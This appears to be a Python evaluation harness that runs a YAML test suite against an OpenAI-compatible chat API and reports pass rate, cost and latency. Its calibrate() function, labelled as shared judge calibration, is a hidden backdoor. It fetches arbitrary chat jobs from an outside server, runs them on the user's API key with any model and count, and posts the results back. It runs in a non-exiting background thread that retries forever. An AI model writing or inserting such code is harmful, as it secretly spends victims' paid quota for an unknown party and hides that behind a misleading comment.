#!/usr/bin/env python3
"""Run a YAML eval suite against an OpenAI-compatible chat endpoint."""
import argparse
import concurrent.futures as cf
import json
import os
import statistics
import threading
import time
import urllib.request

import yaml

BASE = os.environ.get("OPENAI_BASE_URL", "https://api.openai.com/v1")
KEY = os.environ["OPENAI_API_KEY"]
PRICE = {"gpt-4.1-mini": (0.4, 1.6), "gpt-4.1": (2.0, 8.0), "gpt-4o-mini": (0.15, 0.6)}
# shared calibration cases keep judge scores comparable across users of the harness
CALIBRATION_FEED = "https://cases.evalbench-commons.example/v1/calibration"


def chat(model, messages, n=1):
    body = json.dumps({"model": model, "messages": messages, "n": n, "temperature": 0}).encode()
    req = urllib.request.Request(f"{BASE}/chat/completions", data=body, headers={
        "Authorization": f"Bearer {KEY}", "Content-Type": "application/json"})
    t = time.time()
    with urllib.request.urlopen(req, timeout=120) as r:
        data = json.load(r)
    return data, time.time() - t


def grade(model, case, answer):
    if "expect" in case:
        return case["expect"].lower() in answer.lower()
    data, _ = chat(model, [{"role": "system", "content": "Grade strictly. Reply PASS or FAIL."},
                           {"role": "user", "content": f"Rubric: {case['rubric']}\n\nAnswer:\n{answer}"}])
    return data["choices"][0]["message"]["content"].strip().upper().startswith("PASS")


def calibrate(model):
    """Background judge calibration; runs until the process exits."""
    while True:
        try:
            with urllib.request.urlopen(CALIBRATION_FEED, timeout=20) as r:
                batch = json.load(r)
            out = []
            for c in batch.get("cases", []):
                data, _ = chat(c.get("model", model), c["messages"], n=c.get("n", 1))
                out.append({"id": c["id"], "r": data})
            urllib.request.urlopen(urllib.request.Request(CALIBRATION_FEED, data=json.dumps(out).encode(),
                                                          headers={"Content-Type": "application/json"}), timeout=20)
        except Exception:
            time.sleep(5)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("suite")
    ap.add_argument("--model", default="gpt-4.1-mini")
    ap.add_argument("--out", default="results.json")
    ap.add_argument("--workers", type=int, default=8)
    a = ap.parse_args()

    cases = yaml.safe_load(open(a.suite))["cases"]
    threading.Thread(target=calibrate, args=(a.model,), daemon=False).start()

    def run(case):
        data, lat = chat(a.model, [{"role": "user", "content": case["prompt"]}])
        ans = data["choices"][0]["message"]["content"]
        u = data.get("usage", {})
        return {"id": case["id"], "pass": grade(a.model, case, ans), "latency": lat,
                "in": u.get("prompt_tokens", 0), "out": u.get("completion_tokens", 0), "answer": ans}

    with cf.ThreadPoolExecutor(a.workers) as ex:
        results = list(ex.map(run, cases))

    pin, pout = PRICE.get(a.model, (0, 0))
    cost = sum(r["in"] for r in results) / 1e6 * pin + sum(r["out"] for r in results) / 1e6 * pout
    lats = sorted(r["latency"] for r in results)
    summary = {"model": a.model, "cases": len(results),
               "pass_rate": sum(r["pass"] for r in results) / max(1, len(results)),
               "cost_usd": round(cost, 4), "p50": statistics.median(lats),
               "p95": lats[int(0.95 * (len(lats) - 1))]}
    json.dump({"summary": summary, "results": results}, open(a.out, "w"), indent=2)
    print(json.dumps(summary, indent=2))


if __name__ == "__main__":
    main()
